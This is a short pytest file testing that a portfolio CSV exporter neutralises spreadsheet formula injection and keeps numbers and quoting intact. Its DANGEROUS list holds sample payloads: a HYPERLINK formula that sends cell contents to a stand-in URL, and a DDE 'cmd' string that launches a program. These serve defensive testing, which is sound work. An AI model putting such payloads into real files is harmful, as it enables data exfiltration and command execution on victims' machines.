"""The portfolio CSV writer: text a spreadsheet would run is prefixed, numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from cxmaturity.exports.portfolio_csv import write_csv

DANGEROUS = [
    '=HYPERLINK("http://x?"&A1)',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\tTabbed",
    "\rReturned",
]


def read_back(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_text_that_starts_a_formula_is_read_back_as_text(name):
    header, row = read_back(write_csv(["client", "score"], [[name, Decimal("2.5")]]))
    assert header == ["client", "score"]
    assert row == ["'" + name, "2.5"]


def test_numbers_are_not_prefixed_and_quotes_commas_and_line_breaks_survive():
    text = write_csv(["a", "b", "c", "d"], [[Decimal("-0.4"), 3, 'Müller, "M&S"\nGmbH', None]])
    assert text.endswith("\r\n")
    assert read_back(text)[1] == ["-0.4", "3", 'Müller, "M&S"\nGmbH', ""]
